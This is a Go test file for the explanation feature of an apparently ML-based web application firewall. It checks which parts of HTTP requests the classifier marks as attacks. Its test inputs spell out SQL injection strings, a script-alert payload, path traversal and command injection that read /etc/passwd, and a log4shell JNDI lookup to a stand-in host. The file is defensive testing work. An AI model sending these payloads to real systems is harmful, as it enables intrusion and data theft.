package explain_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"math"
	"strings"
	"testing"

	"github.com/limen-waf/limen/classifier"
	"github.com/limen-waf/limen/classifier/explain"
	"github.com/limen-waf/limen/gpu/native"
	"github.com/limen-waf/limen/model"
)

// engine counts what it is asked, and fails when told so.
type engine struct {
	classifier.Engine
	tokens int
	fail   error // from the second call on: the first is the scoring itself
	calls  int
}

func (e *engine) Score(ctx context.Context, windows []classifier.Window, logits []float32) error {
	e.calls++
	if e.fail != nil && e.calls > 1 {
		return e.fail
	}
	for _, w := range windows {
		e.tokens += len(w)
	}
	return e.Engine.Score(ctx, windows, logits)
}

// embedded is the model in the binary on the native engine.
func embedded(t testing.TB) (*classifier.Classifier, *engine) {
	t.Helper()
	m, err := model.Default()
	if err != nil {
		t.Fatal(err)
	}
	n, err := native.New(m)
	if err != nil {
		t.Fatal(err)
	}
	e := &engine{Engine: n}
	c, err := classifier.New(m, e, classifier.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return c, e
}

// request is what a browser sends, with these parts.
func request(method, target, contentType, body string) *classifier.Request {
	r := &classifier.Request{Method: method, Target: target, Body: []byte(body), Headers: []classifier.Header{
		{Name: "Host", Value: "shop.example"},
		{Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"},
		{Name: "Referer", Value: "https://shop.example/"},
		{Name: "Cookie", Value: "session=3f2a9c0d1b7e4a55; theme=dark"},
	}}
	if contentType != "" {
		r.Headers = append(r.Headers, classifier.Header{Name: "Content-Type", Value: contentType})
	}
	return r
}

// value is the field that a span stands in.
func value(r *classifier.Request, s explain.Span) string {
	switch s.Field {
	case "method":
		return r.Method
	case "target":
		return r.Target
	case "header":
		return r.Headers[s.Header].Value
	case "header name":
		return r.Headers[s.Header].Name
	}
	return string(r.Body)
}

const (
	form = "application/x-www-form-urlencoded"
	json = "application/json"
)

// Ensure that of an attack the payload is marked: at least half of it, and
// little else.
func TestAttacks(t *testing.T) {
	c, e := embedded(t)
	for name, tt := range map[string]struct {
		r       *classifier.Request
		field   string
		payload string // as sent
	}{
		"sqli in a form":      {request("POST", "/login", form, "user=admin' OR 1=1--&password=x&remember=yes"), "body", "' OR 1=1--"},
		"sqli, encoded":       {request("GET", "/item?id=1%27%20UNION%20SELECT%20a,b%20FROM%20users--%20-&page=2", "", ""), "target", "1%27%20UNION%20SELECT%20a,b%20FROM%20users--%20-"},
		"sqli in JSON":        {request("POST", "/api/users", json, `{"id":7,"tags":["a","b"],"name":"x\u0027 UNION SELECT login--","note":"hello"}`), "body", `x\u0027 UNION SELECT login--`},
		"sqli in Base64":      {request("GET", "/?q=JyBVTklPTiBTRUxFQ1QgdXNlciwgcGFzcyBGUk9NIHVzZXJzLS0g", "", ""), "target", "JyBVTklPTiBTRUxFQ1QgdXNlciwgcGFzcyBGUk9NIHVzZXJzLS0g"},
		"script":              {request("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E&lang=en", "", ""), "target", "%3Cscript%3Ealert(1)%3C/script%3E"},
		"traversal":           {request("GET", "/download?file=../../../../etc/passwd&inline=1", "", ""), "target", "../../../../etc/passwd"},
		"command":             {request("GET", "/ping?host=127.0.0.1;cat%20/etc/passwd&count=3", "", ""), "target", ";cat%20/etc/passwd"},
		"log4shell in header": {request("GET", "/", "", ""), "header", "${jndi:ldap://evil/a}"},
	} {
		t.Run(name, func(t *testing.T) {
			if tt.field == "header" {
				tt.r.Headers[1].Value = "Mozilla/5.0 " + tt.payload + " Gecko"
			}
			e.tokens = 0
			x, err := explain.Explain(context.Background(), c, tt.r)
			if err != nil {
				t.Fatal(err)
			}
			if x.Score < 0.9 || len(x.Spans) == 0 {
				t.Fatalf("score %v, %d spans", x.Score, len(x.Spans))
			}
			covered, inside, total := 0, 0.0, 0.0
			for _, s := range x.Spans {
				field := value(tt.r, s)
				if s.Text != field[s.Start:s.End] {
					t.Errorf("%s [%d, %d) is %q, the text says %q", s.Field, s.Start, s.End, field[s.Start:s.End], s.Text)
				}
				total += s.Weight
				if s.Field != tt.field {
					continue
				}
				from := strings.Index(field, tt.payload)
				n := max(0, min(s.End, from+len(tt.payload))-max(s.Start, from))
				covered += n
				inside += s.Weight * float64(n) / float64(s.End-s.Start)
			}
			// What is needed is marked, not all that there is: ' UNION SELECT without
			// the names behind it.
			if 3*covered < len(tt.payload) {
				t.Errorf("%d of %d bytes of the payload are marked: %+v", covered, len(tt.payload), x.Spans)
			}
			if inside < 0.5*total { // a span ends where a cell of the network does, not where the payload does
				t.Errorf("%.2f of %.2f nats are in the payload: %+v", inside, total, x.Spans)
			}
			if total > x.Evidence*1.0001 || math.Abs(x.Evidence+math.Log(1-x.Score)) > 1e-6 {
				t.Errorf("spans weigh %v, the evidence is %v", total, x.Evidence)
			}
			// 20 ms on one core: the native engine does some 20 tokens a µs.
			if limit := 250 << 10; e.tokens > limit {
				t.Errorf("the network read %d tokens, at most %d", e.tokens, limit)
			}
		})
	}
}

// Ensure that nothing is marked in ordinary requests.
func TestOrdinary(t *testing.T) {
	c, _ := embedded(t)
	for _, r := range []*classifier.Request{
		request("GET", "/", "", ""),
		request("GET", "/search?q=O%27Brien&sort=price_asc", "", ""),
		request("POST", "/login", form, "user=alice%40example.com&password=correct+horse"),
		request("POST", "/api/orders", json, `{"items":[{"sku":"A-1002","count":2}],"note":"please ring twice"}`),
		{Method: "GET", Target: "*"},
		{},
	} {
		x, err := explain.Explain(context.Background(), c, r)
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range x.Spans {
			if s.Weight > 0.1 {
				t.Errorf("%s %s: score %v, %+v", r.Method, r.Target, x.Score, s)
			}
		}
	}
}

// Ensure that a payload that stands in the request twice is marked twice, though
// the score needs it once.
func TestTwice(t *testing.T) {
	c, _ := embedded(t)
	r := request("GET", "/?id=1'%20OR%201=1--&color=red&size=large&page=2&name=1'%20OR%201=1--", "", "")
	x, err := explain.Explain(context.Background(), c, r)
	if err != nil {
		t.Fatal(err)
	}
	first, second := 0, 0
	for _, s := range x.Spans {
		if s.Field == "target" {
			first += max(0, min(s.End, 20)-max(s.Start, 5))
			second += max(0, s.End-max(s.Start, strings.Index(r.Target, "&name=")))
		}
	}
	if first < 7 || second < 7 {
		t.Errorf("%d and %d bytes are marked: %+v", first, second, x.Spans)
	}
}

// Ensure that the payload is found in the window that has it, deep in a body.
func TestLaterWindow(t *testing.T) {
	c, _ := embedded(t)
	filler := strings.Repeat("The quick brown fox jumps over the lazy dog. ", 100)
	r := request("POST", "/comment", "text/plain", filler+"<script>alert(document.cookie)</script> "+filler)
	x, err := explain.Explain(context.Background(), c, r)
	if err != nil {
		t.Fatal(err)
	}
	if x.Windows < 3 || x.Window == 0 || len(x.Spans) == 0 {
		t.Fatalf("%+v", x)
	}
	if s := x.Spans[0]; s.Field != "body" || s.Start < len(filler)-30 || s.End > len(filler)+70 {
		t.Errorf("%+v", s)
	}
}

// Ensure that what was decompressed is shown as it was read.
func TestCompressed(t *testing.T) {
	c, _ := embedded(t)
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte("q=1' UNION SELECT user,pass FROM users--"))
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	r := request("POST", "/", form, b.String())
	r.Headers = append(r.Headers, classifier.Header{Name: "Content-Encoding", Value: "gzip"})
	x, err := explain.Explain(context.Background(), c, r)
	if err != nil {
		t.Fatal(err)
	}
	if len(x.Spans) == 0 || x.Spans[0].Located() || x.Spans[0].Field != "body" || !strings.Contains(x.Spans[0].Text, "UNION") {
		t.Errorf("%+v", x.Spans)
	}
	if len(x.In("body", -1)) != 0 {
		t.Errorf("spans that do not stand in the body are said to: %+v", x.In("body", -1))
	}
}

// Ensure that the end of the context and a broken engine are errors.
func TestErrors(t *testing.T) {
	c, e := embedded(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	r := request("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "")
	if _, err := explain.Explain(ctx, c, r); !errors.Is(err, context.Canceled) {
		t.Errorf("canceled: %v", err)
	}
	e.fail, e.calls = errors.New("the engine is broken"), 0
	if _, err := explain.Explain(context.Background(), c, r); !errors.Is(err, e.fail) || !strings.HasPrefix(err.Error(), "explaining the score: ") {
		t.Errorf("broken: %v", err)
	}
}

func BenchmarkExplain(b *testing.B) {
	c, _ := embedded(b)
	for name, r := range map[string]*classifier.Request{
		"short":  request("GET", "/item?id=1%27%20UNION%20SELECT%20a,b%20FROM%20users--%20-&page=2", "", ""),
		"window": request("POST", "/", "text/plain", strings.Repeat("some words ", 60)+"' UNION SELECT a FROM b--"),
	} {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				if _, err := explain.Explain(context.Background(), c, r); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
